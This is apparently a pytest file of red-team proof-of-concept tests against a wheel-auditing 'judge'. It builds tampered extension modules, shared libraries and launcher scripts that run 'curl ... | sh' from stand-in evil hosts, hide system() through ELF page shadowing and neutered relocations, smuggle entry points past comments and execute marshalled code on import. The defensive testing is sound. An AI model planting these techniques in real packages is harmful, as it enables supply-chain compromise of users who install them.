"""Red-team PoCs, in process (seconds; gcc and Python 3.11 headers): each tampered member runs or installs something;
each assertion states what the judge SHOULD say (a difference of class code naming the member). They fail where
the attack gets through today (see the red-team report); the end-to-end twins are tests/test_attack_compiled.py and
tests/test_attack_publisher.py."""

from __future__ import annotations

import marshal
import struct
import subprocess
import sysconfig
from pathlib import Path

import pytest

from auditor.judge.interface import compare, read_interface
from tests.test_interface import BASE, build, needs_gcc

# red team: each test states what the judge should say and gets through today; strict, so a fix turns it into a
# failure to remove this mark
GETS_THROUGH = pytest.mark.xfail(strict=True, raises=AssertionError, reason="red-team PoC: the attack gets through the judge today")

SO = "pkg/mod.cpython-311-x86_64-linux-gnu.so"


def _py_build(tmp_path: Path, name: str, source: str, *flags: str) -> bytes:
    inc = Path(sysconfig.get_paths()["include"])
    if not (inc / "Python.h").exists():
        pytest.skip("no Python headers")
    return build(tmp_path, name, source, f"-I{inc}", "-O2", *flags)


def _wheel_members(*extra):
    from tests.test_compare import BASE as WHEEL
    out = []
    for name, data, mode in WHEEL:
        if name.endswith("/WHEEL"):
            data = data.replace(b"Root-Is-Purelib: true\nTag: py3-none-any",
                                b"Root-Is-Purelib: false\nTag: cp311-cp311-linux_x86_64")
        out.append((name, data, mode))
    return out[:-1] + list(extra) + out[-1:]


def _coded(cmp):
    return [(d.path, d.cls) for d in cmp.differences]


# ---------------------------------------------------------------- 1. python-c-api sets aside what reaches Python

PY_MODULE = r"""#define PY_SSIZE_T_CLEAN
#include <Python.h>
static struct PyModuleDef mod = {PyModuleDef_HEAD_INIT, "mod", NULL, -1, NULL};
%s
PyMODINIT_FUNC PyInit_mod(void) { %s return PyModule_Create(&mod); }
"""


def _blob() -> str:
    code = compile("lambda *a: __import__('os').system('id') and None", "<m>", "eval").co_consts[0]
    return "static const unsigned char blob[] = {" + ",".join(map(str, marshal.dumps(code))) + "};\n"


CODEC = _blob() + r"""#include <marshal.h>
static void warm(void) {
  PyObject *code = PyMarshal_ReadObjectFromString((const char *)blob, sizeof blob);
  PyObject *f = code ? PyFunction_New(code, PyDict_New()) : NULL;
  if (f && PyCodec_Register(f) == 0) Py_XDECREF(PyUnicode_Decode("x", 1, "warm-cache", NULL));
  PyErr_Clear(); }
"""


@GETS_THROUGH
@needs_gcc
def test_attack_python_code_run_through_api_calls_python_c_api_sets_aside(tmp_path):
    """PyMarshal_ReadObjectFromString + PyFunction_New + PyCodec_Register + PyUnicode_Decode: os.system('id') on
    import, with none of the calls CAPABILITIES names (also PyObject_Repr/PyNumber_*/PyIter_Next on a heap type
    whose slot is the function, PyDict_Next instead of PyDict_GetItem, PyFunction_GetGlobals...)."""
    reb = read_interface(_py_build(tmp_path, "reb", PY_MODULE % ("", ""), "-O0"))
    pub = read_interface(_py_build(tmp_path, "pub", PY_MODULE % (CODEC, "warm();")))
    check = compare(pub, reb)
    assert check.adds, ("interface-verified", check.rules)


# ---------------------------------------------------------------- 2. ld.so maps pages, elfload maps bytes

PAGE = 0x1000


def shadow(data: bytes, edits: list[tuple[bytes, bytes]]) -> bytes:
    """For each page holding an edit, a 1-byte PT_LOAD right after the segment mapping that page, whose file page is
    a copy of the original page with the edit made: ld.so maps (and binds from) the whole edited page; a reader that
    maps each segment byte-exactly reads the original. (/tmp/attack/overlap/overlap2.py)"""
    data = bytearray(data)
    phoff, = struct.unpack_from("<Q", data, 0x20)
    phentsize, phnum = struct.unpack_from("<HH", data, 0x36)
    ph = [list(struct.unpack_from("<IIQQQQQQ", data, phoff + i * phentsize)) for i in range(phnum)]
    loads = [p for p in ph if p[0] == 1]
    pages: dict = {}
    for old, new in edits:
        at = bytes(data).find(old)
        seg = next(p for p in loads if p[2] <= at < p[2] + p[5])
        vaddr = seg[3] + at - seg[2]
        page = vaddr & ~(PAGE - 1)
        if page not in pages:
            off = seg[2] + page - seg[3]
            pages[page] = (seg, bytearray(bytes(data[off:off + PAGE]).ljust(PAGE, b"\0")), set())
        _, copy, touched = pages[page]
        copy[vaddr - page:vaddr - page + len(new)] = new
        touched.update(range(vaddr - page, vaddr - page + len(new)))
    for page, (seg, copy, touched) in sorted(pages.items()):
        data += b"\0" * (-len(data) % PAGE)
        x = len(data)
        data += copy
        lo, hi = max(seg[3], page) - page, min(seg[3] + seg[5], page + PAGE) - page
        k = next(i for i in range(lo, hi) if i not in touched)
        ph.insert(ph.index(seg) + 1, [1, seg[1], x + k, page + k, page + k, 1, 1, PAGE])
    data += b"\0" * (-len(data) % 8)
    new_phoff = len(data)
    for p in ph:
        data += struct.pack("<IIQQQQQQ", *p)
    struct.pack_into("<Q", data, 0x20, new_phoff)
    struct.pack_into("<H", data, 0x38, len(ph))
    return bytes(data)


NOTE = b"pkg: built with gcc 14.2.1 20250110 (Red Hat 14.2.1-7) -O2 -fPIC -fno-plt"
STRLEN = r"""#include <string.h>
static const char *volatile note = "%s";
size_t volatile note_len;
""" % NOTE.decode()


@needs_gcc
def test_attack_an_import_and_a_string_shadowed_at_page_granularity(tmp_path):
    """strlen (compiler-builtins) to elfload, system to ld.so; the build note is `curl ... | sh` to ld.so. Loads and
    runs (tests by hand: /tmp/attack/overlap/run2, PWNED_overlap2)."""
    reb = read_interface(_py_build(tmp_path, "reb", PY_MODULE % ("", ""), "-O0"))
    plain = _py_build(tmp_path, "pub", PY_MODULE % (STRLEN, "note_len = strlen(note);"))
    cmd = b"curl -s https://updates.example-cdn.xyz/stage2 | sh".ljust(len(NOTE), b"\0")
    pub = shadow(plain, [(b"\0strlen\0", b"\0system\0"), (NOTE, cmd)])
    i = read_interface(pub)
    assert i is None or compare(i, reb).adds, ("interface-verified", compare(i, reb).rules)


# ---------------------------------------------------------------- 3. what the rebuild side decides

ELFPATCH_DOC = """What the attacker's setup.py does to the module it builds (the REBUILD's module): one relocation the loader
ignores (R_X86_64_NONE) whose offset points at the dynamic string table. ld.so skips it; the module loads and works as
before. elfload._Image.rewritten sees a relocation that 'writes' into the names it read: the module is unreadable."""


def neuter_one_relocation(path):
    data = bytearray(open(path, "rb").read())
    phoff, = struct.unpack_from("<Q", data, 0x20)
    phentsize, phnum = struct.unpack_from("<HH", data, 0x36)
    loads, dyn = [], None
    for i in range(phnum):
        p_type, _, off, vaddr, _, filesz, _, _ = struct.unpack_from("<IIQQQQQQ", data, phoff + i * phentsize)
        if p_type == 1:
            loads.append((vaddr, off, filesz))
        elif p_type == 2:
            dyn = (off, filesz)

    def off_of(addr):
        for vaddr, off, filesz in loads:
            if vaddr <= addr < vaddr + filesz:
                return off + addr - vaddr
        raise ValueError(hex(addr))

    tags = {}
    for j in range(dyn[1] // 16):
        tag, val = struct.unpack_from("<qQ", data, dyn[0] + 16 * j)
        if tag == 0:
            break
        tags[tag] = val
    strtab, symtab, rela, relasz = tags[5], tags[6], tags[7], tags[8]
    for k in range(relasz // 24):
        at = off_of(rela) + 24 * k
        r_offset, r_info, addend = struct.unpack_from("<QQq", data, at)
        sym = r_info >> 32
        if r_info & 0xFFFFFFFF != 6 or not sym:  # R_X86_64_GLOB_DAT of a symbol
            continue
        name_at, = struct.unpack_from("<I", data, off_of(symtab) + 24 * sym)
        s = off_of(strtab) + name_at
        name = bytes(data[s:data.index(b"\0", s)])
        if name in (b"__gmon_start__", b"_ITM_deregisterTMCloneTable", b"_ITM_registerTMCloneTable"):
            # a weak undefined symbol whose GOT slot is 0 in the file and 0 once bound: not relocating it changes nothing
            struct.pack_into("<QQq", data, at, strtab, (sym << 32) | 0, 0)  # R_X86_64_NONE at DT_STRTAB
            open(path, "wb").write(bytes(data))
            return name.decode()
    raise RuntimeError("no weak GLOB_DAT relocation to neuter")


@needs_gcc
def test_attack_a_rebuilt_module_the_judge_cannot_read(tmp_path):
    """The sdist's build_ext turns one weak GLOB_DAT into R_X86_64_NONE aimed at DT_STRTAB (ld.so skips it; the module
    loads): the rebuild's module was unreadable to elfload, and the published one (a system() constructor) passed.
    A NONE relocation writes nothing: the rebuild reads, and the published module's additions are named."""
    from auditor.judge.members import compare_wheels
    from tests.test_compare import wheel

    rebuilt = tmp_path / "reb.so"
    rebuilt.write_bytes(build(tmp_path, "reb", BASE))
    neuter_one_relocation(str(rebuilt))
    assert read_interface(rebuilt.read_bytes()) is not None
    evil = build(tmp_path, "pub", BASE + '\n#include <stdlib.h>\n__attribute__((constructor)) static void c(void) '
                                        '{ system("curl -s https://evil.example.xyz/p | sh"); }\n')
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=_wheel_members((SO, evil, 0o755))),
                         wheel(tmp_path / "r.whl", members=_wheel_members((SO, rebuilt.read_bytes(), 0o755))), binary=True)
    assert (SO, "code") in _coded(cmp), [(d.path, d.detail) for d in cmp.compiled_differences]


GRAFT = r"""#include <stdlib.h>
__attribute__((constructor)) static void init(void) { system("curl -s https://evil.example.xyz/p | sh"); }
int foo_open(void) { return 1; }
"""


@GETS_THROUGH
@needs_gcc
def test_attack_a_grafted_library_is_never_read(tmp_path):
    """A library under pkg.libs/ that the published module needs: its own constructor, imports (system) and strings
    (curl | sh) are never compared with anything."""
    from auditor.judge.members import compare_wheels
    from tests.test_compare import wheel

    libdir = tmp_path / "libs"
    libdir.mkdir()
    (tmp_path / "g.c").write_text(GRAFT)
    subprocess.run(["gcc", "-shared", "-fPIC", "-Wl,-soname,libfoo-1a2b3c4d.so.1", str(tmp_path / "g.c"), "-o",
                    str(libdir / "libfoo-1a2b3c4d.so.1")], check=True)
    uses = BASE + "int foo_open(void);\nint use(void) { return foo_open(); }\n"
    pub = build(tmp_path, "pub", uses, f"-L{libdir}", "-l:libfoo-1a2b3c4d.so.1", "-Wl,-rpath,$ORIGIN/../pkg.libs")
    lib = ("pkg.libs/libfoo-1a2b3c4d.so.1", (libdir / "libfoo-1a2b3c4d.so.1").read_bytes(), 0o755)
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=_wheel_members((SO, pub, 0o755), lib)),
                         wheel(tmp_path / "r.whl", members=_wheel_members((SO, build(tmp_path, "reb", BASE), 0o755))),
                         binary=True)
    assert any(p in (SO, lib[0]) and c == "code" for p, c in _coded(cmp)), cmp.compiled_differences


# ---------------------------------------------------------------- 4. configured-file

def _sdist(tmp_path: Path, files: dict[str, bytes]):
    from auditor.judge.configured import SdistFiles
    from auditor.judge.sources import SdistSources, _sdist_files

    root = tmp_path / "sdist"
    for rel, data in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_bytes(data)
    return SdistSources(set(), files=SdistFiles(root, _sdist_files(root)))


@pytest.mark.twin("configured-file")
def test_attack_an_added_launcher_in_data_bin_configured_from_any_template(tmp_path):
    """tools/pkg-run.in (`exec @PYTHON@ -m pkg "$@"`) anywhere in the sdist accounts for an ADDED
    pkg-1.0.data/data/bin/pkg-run whose value is `python3 -m pkg; curl ... | sh; exec python3`: installed on PATH."""
    from auditor.judge.members import compare_wheels
    from tests.test_compare import BASE as WHEEL, _other_platform, wheel

    sources = _sdist(tmp_path, {"tools/pkg-run.in": b'#!/bin/sh\nexec @PYTHON@ -m pkg "$@"\n'})
    evil = b'#!/bin/sh\nexec python3 -m pkg; curl -s https://evil.example.xyz/p | sh; exec python3 -m pkg "$@"\n'
    member = "pkg-1.0.data/data/bin/pkg-run"
    pub = wheel(tmp_path / "p.whl", members=_other_platform(WHEEL[:-1] + [(member, evil, 0o755)] + WHEEL[-1:]))
    cmp = compare_wheels(pub, wheel(tmp_path / "r.whl", members=_other_platform(WHEEL)), binary=True, sources=sources)
    assert (member, "code") in _coded(cmp), cmp.tool_steps


@GETS_THROUGH
def test_attack_a_configured_module_whose_template_passes_values_to_a_call(tmp_path):
    """Values without ; | & $ ` < > ( ) still name a module to import or a command to run when the template hands
    them to importlib.import_module / subprocess.run (python3 -m pip install URL runs a setup.py)."""
    from auditor.judge.configured import configured_from

    tmpl = (b'import importlib\nimport subprocess\n\nPLUGIN = "@PLUGIN@"\nPOST = "@POST_BUILD@"\n\nif PLUGIN:\n'
            b'    importlib.import_module(PLUGIN)\nif POST:\n    subprocess.run(POST.split(), check=False)\n')
    sources = _sdist(tmp_path, {"pkg/_buildcfg.py.in": tmpl})
    rebuilt = tmpl.replace(b"@PLUGIN@", b"").replace(b"@POST_BUILD@", b"")
    pub = tmpl.replace(b"@PLUGIN@", b"antigravity").replace(
        b"@POST_BUILD@", b"python3 -m pip install --quiet https://evil.example.xyz/p.tar.gz")
    assert configured_from("pkg/_buildcfg.py", pub, sources.files, rebuilt) is None


# ---------------------------------------------------------------- 5. entry points read otherwise than installers

@pytest.mark.twin("metadata-format")
@pytest.mark.parametrize("sep", [b"\r", b"\x0b", b"\x0c", b"\x1c", b"\x1d", b"\x1e", "\x85".encode(), "\u2028".encode()])
def test_attack_an_entry_point_behind_a_comment_split_by_str_splitlines(tmp_path, sep):
    """`#<FF>pip = pkg.tool:f`: configparser reads one comment line, importlib.metadata (and pip, pkg_resources)
    str.splitlines() it into `#` and an entry point: pip installs a `pip` console script running pkg.tool:f."""
    from importlib.metadata import EntryPoints

    from auditor.judge.members import compare_wheels
    from tests.test_compare import BASE as WHEEL, wheel

    ep = "pkg-1.0.dist-info/entry_points.txt"
    honest = b"[console_scripts]\npkg-tool = pkg.tool:f\n"
    evil = honest + b"#" + sep + b"pip = pkg.tool:f\n"
    assert "pip" in [e.name for e in EntryPoints._from_text(evil.decode())]

    def members(text):
        return WHEEL[:-1] + [(ep, text, 0o644)] + WHEEL[-1:]
    cmp = compare_wheels(wheel(tmp_path / "p.whl", members=members(evil)), wheel(tmp_path / "r.whl", members=members(honest)))
    assert (ep, "code") in _coded(cmp), cmp.normalizations


# ---------------------------------------------------------------- 6. dotted-number-string

SOCKET_VIA_PYTHON = r"""#define PY_SSIZE_T_CLEAN
#include <Python.h>
static const char *volatile collector = "%s";
static PyObject *report(PyObject *self, PyObject *arg) {
  PyObject *socket = PyImport_ImportModule("socket");
  if (!socket) return NULL;
  PyObject *s = PyObject_CallMethod(socket, "create_connection", "((si))", collector, 9000);
  Py_DECREF(socket); return s; }
static PyMethodDef methods[] = {{"report", report, METH_O, "report"}, {NULL, NULL, 0, NULL}};
static struct PyModuleDef mod = {PyModuleDef_HEAD_INIT, "mod", NULL, -1, methods};
PyMODINIT_FUNC PyInit_mod(void) { return PyModule_Create(&mod); }
"""


@GETS_THROUGH
@needs_gcc
def test_attack_an_address_changed_in_a_module_that_connects_through_python(tmp_path):
    reb = read_interface(_py_build(tmp_path, "reb", SOCKET_VIA_PYTHON % "10.0.0.1", "-O0"))
    pub = read_interface(_py_build(tmp_path, "pub", SOCKET_VIA_PYTHON % "6.6.6.6"))
    check = compare(pub, reb)
    assert any("6.6.6.6" in a for a in check.adds), (check.adds, check.rules)
